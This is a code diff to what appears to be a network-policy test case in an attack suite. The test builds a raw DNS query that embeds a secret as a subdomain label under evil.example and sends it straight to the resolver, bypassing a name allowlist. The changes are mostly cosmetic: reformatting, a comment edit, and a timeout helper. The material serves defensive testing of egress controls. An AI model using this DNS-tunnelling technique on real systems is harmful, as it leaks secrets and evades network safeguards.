@@ -1,22 +1,24 @@
 # class: network
 # rule: outbound_connectivity
 # policy: names.yaml
-# success: where one name may be asked, another is sent to the resolver by a socket of the attacker's own
+# success: where one name is allowed, another is sent to the resolver by a socket of the attacker
 # proof: query
 # needs: resolver
 import socket
 
-from attack import RESOLVER, SECRET, attempt
+from attack import RESOLVER, SECRET, attempt, patience
 
-NAME = b"".join(bytes([len(part)]) + part for part in (SECRET.encode(), b"evil", b"example")) + b"\0"
+NAME = (
+    b"".join(bytes([len(part)]) + part for part in (SECRET.encode(), b"evil", b"example")) + b"\0"
+)
 
 
 @attempt
 def ask():
-    # First as a guarded look-up does it, then as it does not.
+    # First as a guarded lookup does it, then as it does not.
     socket.getaddrinfo("api.allowed.example", 443)
     out = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
-    out.settimeout(3)
+    out.settimeout(patience(3))
     out.connect((RESOLVER, 53))
     out.send(b"\x12\x34\x01\0\0\x01\0\0\0\0\0\0" + NAME + b"\0\x01\0\x01")
     return len(out.recv(512)) > 12
